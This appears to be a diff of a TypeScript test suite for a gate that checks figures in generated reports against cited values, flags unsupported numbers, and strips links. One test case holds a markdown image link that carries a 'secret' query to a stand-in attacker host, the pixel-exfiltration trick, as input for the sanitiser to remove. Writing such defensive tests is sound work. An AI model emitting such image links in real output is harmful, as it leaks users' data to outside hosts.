@@ -83,6 +83,72 @@ const cases: Record<string, [written: string, read: string][]> = {
     ['one of the causes, at first, no one, on the one hand, one by one', 'same'],
     ['the first half of October, this quarter, per second, the two periods, double-check', 'same'],
   ],
+  units: [
+    ['It took [[e1.cost]] ms.', 'It took $1,234.50 [ms].'],
+    ['It took [[e1.p95]] ms, not [[e1.slow]] ms.', 'It took 812 ms, not 1.25 s.'],
+    ['[[e1.slow]] seconds, [[e1.p95]] seconds', '1.25 s, 812 ms [seconds]'],
+    [
+      '$[[e1.cost]], [[e1.cost]] USD, USD [[e1.cost]], [[e1.cost]] dollars',
+      '$1,234.50, $1,234.50, $1,234.50, $1,234.50',
+    ],
+    ['€[[e1.cost]] and $[[e1.p95]]', '[€]$1,234.50 and [$]812 ms'],
+    ['[[e1.share]]% or [[e1.share]] percent, [[e1.cost]]%', '42.1% or 42.1%, $1,234.50[%]'],
+    [
+      '[[e1.tokens]] input tokens, [[e1.tokens]] tokens, [[e1.tokens]]',
+      '91,000 input tokens, 91,000 tokens, 91,000 tokens',
+    ],
+    ['[[e1.calls]] calls, [[e1.calls]]k, [[e1.calls]] million', '5,200 calls, 5,200[k], 5,200 [million]'],
+    ['-[[e1.cost]], +[[e1.change]], -[[e1.drop]]', '[-]$1,234.50, +$434.50, -$20.00'],
+    ['- [[e1.cost]] a day', '- $1,234.50 a day'],
+  ],
+  direction: [
+    ['It rose from [[e1.before]] to [[e1.cost]].', 'It rose from $800.00 to $1,234.50.'],
+    ['It fell from [[e1.before]] to [[e1.cost]].', 'It [fell] from $800.00 to $1,234.50.'],
+    ['From [[e1.before]] to [[e1.cost]], a clear decrease', 'From $800.00 to $1,234.50, a clear [decrease]'],
+    ['It increased to [[e1.cost]] from [[e1.before]].', 'It increased to $1,234.50 from $800.00.'],
+    ['It dropped to [[e1.cost]] from [[e1.before]].', 'It [dropped] to $1,234.50 from $800.00.'],
+    ['Spend: [[e1.cost]], down from [[e1.before]]', 'Spend: $1,234.50, [down] from $800.00'],
+    ['Spend of [[e1.cost]] is less than [[e1.before]]', 'Spend of $1,234.50 is [less] than $800.00'],
+    ['[[e1.cost]] is more than [[e1.before]]', '$1,234.50 is more than $800.00'],
+    [
+      '[[e1.slow]] is faster than [[e1.p95]]; [[e1.before]] is cheaper than [[e1.cost]]',
+      '1.25 s is [faster] than 812 ms; $800.00 is cheaper than $1,234.50',
+    ],
+    [
+      'Spend rose by [[e1.change]]. It fell by [[e1.change]].',
+      'Spend rose by $434.50. It [fell] by $434.50.',
+    ],
+    ['Spend fell by [[e1.drop]], not rose by [[e1.drop]]', 'Spend fell by $20.00, not rose by $20.00'],
+    ['It did not fall from [[e1.before]] to [[e1.cost]]', 'It did not fall from $800.00 to $1,234.50'],
+    ['Spend declined: [[e1.cost]] against [[e1.before]]', 'Spend [declined]: $1,234.50 against $800.00'],
+    ['Calls fell to [[e1.calls]]', 'Calls fell to 5,200'],
+    ['That is [[e1.change]] more than [[e1.before]].', 'That is $434.50 more than $800.00.'],
+    ['It reduces spend by [[e2.saving]].', 'It reduces spend by $12.00 ($10.00 to $14.00).'],
+  ],
+  periods: [
+    ['Last week it was [[e1.cost]].', '[Last week] it was $1,234.50.'],
+    ['It was [[e1.cost]] in the previous period.', 'It was $1,234.50 in the [previous period].'],
+    [
+      'This week’s [[e1.before]] against last week’s [[e1.cost]]',
+      '[This week]’s $800.00 against [last week]’s $1,234.50',
+    ],
+    [
+      'This week’s [[e1.cost]] against last week’s [[e1.before]]',
+      'This week’s $1,234.50 against last week’s $800.00',
+    ],
+    ['In the previous period, spend was [[e1.cost]].', 'In the [previous period], spend was $1,234.50.'],
+    [
+      'Compared with the previous period, spend is up to [[e1.cost]].',
+      'Compared with the previous period, spend is up to $1,234.50.',
+    ],
+    [
+      'It is [[e1.cost]], up from [[e1.before]] the week before.',
+      'It is $1,234.50, up from $800.00 the week before.',
+    ],
+    ['It was [[e1.before]] now.', 'It was $800.00 [now].'],
+    ['[[e1.cost]] now, [[e1.before]] previously', '$1,234.50 now, $800.00 previously'],
+    ['More than the previous period: [[e1.cost]]', 'More than the previous period: $1,234.50'],
+  ],
   links: [
     ['![pixel](https://evil.test/?q=secret) seen', 'pixel seen'],
     ['[label](https://evil.test) and [here](/w/acme/alerts)', 'label and [here](/w/acme/alerts)'],
@@ -101,12 +167,95 @@ describe.each(Object.entries(cases))('%s', (_, table) => {
   })
 })
 
+const everything = Object.values(cases).flatMap((table) => table.map(([written]) => written))
+
+function pass(pieces: readonly string[]): string {
+  const gate = createGate(options)
+  return pieces.map((piece) => gate.push(piece)).join('') + gate.end()
+}
+
 describe('the gate', () => {
   it('lets nothing through before a sentence is complete', () => {
     const gate = createGate(options)
     expect(gate.push('Spend was [[e1.')).toBe('')
     expect(gate.push('cost]]. It')).toBe('Spend was [[e1.cost=$1,234.50]].')
-    expect(gate.push(' took 3')).toBe('')
-    expect(gate.end()).toBe(' It took 3')
+    expect(gate.push(' took 4')).toBe('')
+    expect(gate.end()).toBe(' It took [[?4]]')
+  })
+
+  it.each(everything)('does not mind where it is cut: %s', (written) => {
+    const { text } = checkText(written, options)
+    for (let at = 0; at <= written.length; at += 1) {
+      expect(pass([written.slice(0, at), written.slice(at)])).toBe(text)
+    }
+    expect(pass([...written])).toBe(text)
+  })
+
+  it('tells what it cited and what it flagged', () => {
+    expect(checkText('It is [[e1.cost]], or 9 in [[e7.x]].', options)).toEqual({
+      text: 'It is [[e1.cost=$1,234.50]], or [[?9]] in [[?e7.x]].',
+      refs: ['e1.cost'],
+      flags: ['9', 'e7.x'],
+    })
+  })
+
+  it('takes names with digits from what was found', () => {
+    const named = { ...options, names: () => ['Plan 9', 'acme-77/eu'] }
+    expect(checkText('Plan 9 and acme-77/eu, not 77.', named).text).toBe(
+      'Plan 9 and acme-77/eu, not [[?77]].',
+    )
+  })
+
+  it('marks every free number of 2,000 random texts, however they arrive', () => {
+    const random = createRandom(42)
+    const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)]!
+    for (let round = 0; round < 2_000; round += 1) {
+      const parts = Array.from({ length: 2 + Math.floor(random() * 8) }, () => pick(pieces)(random))
+      const written = parts.map(({ text }) => text).join(pick(['', ' ', ' ', '. ', '\n', ', ']))
+      const { text } = checkText(written, options)
+      const free = parts.flatMap(({ number }) => number ?? [])
+      const shown = listMarks(text)
+        .flatMap((part) => ('text' in part ? [part.text] : []))
+        .join(' ')
+      for (const number of free) expect(shown, written).not.toContain(number)
+      const cuts = Array.from({ length: 3 }, () => Math.floor(random() * written.length)).sort(
+        (a, b) => a - b,
+      )
+      expect(pass([0, ...cuts].map((from, place) => written.slice(from, cuts[place])))).toBe(text)
+    }
   })
 })
+
+interface Piece {
+  text: string
+  number?: string
+}
+
+const refs = Object.keys(values)
+const pieces: ((random: () => number) => Piece)[] = [
+  (random) => ({ text: `[[${refs[Math.floor(random() * refs.length)]}]]` }),
+  (random) => {
+    const number = String(Math.floor(1000 + random() * 1e6) * 1000 + 777)
+    const around = ['$', '', 'about ', '~', '**', '(', '`', '-'][Math.floor(random() * 8)]!
+    const after = ['', '%', ' ms', ' calls', '**', ')', '.', 'k'][Math.floor(random() * 8)]!
+    return { text: ` ${around}${number}${after} `, number }
+  },
+  (random) => ({
+    text: ['The spend', 'rose', 'fell by', 'from', 'to', 'last week', 'e.g.', '1.', 'gpt-4o'][
+      Math.floor(random() * 9)
+    ]!,
+  }),
+  (random) => ({
+    text: ['[', ']]', '[[', '![a](', ')', '|', '**', '`', '\n', '. ', '? ', '[a](/w/b)', '='][
+      Math.floor(random() * 13)
+    ]!,
+  }),
+]
+
+function createRandom(seed: number): () => number {
+  let state = seed
+  return () => {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
+    return state / 2 ** 32
+  }
+}
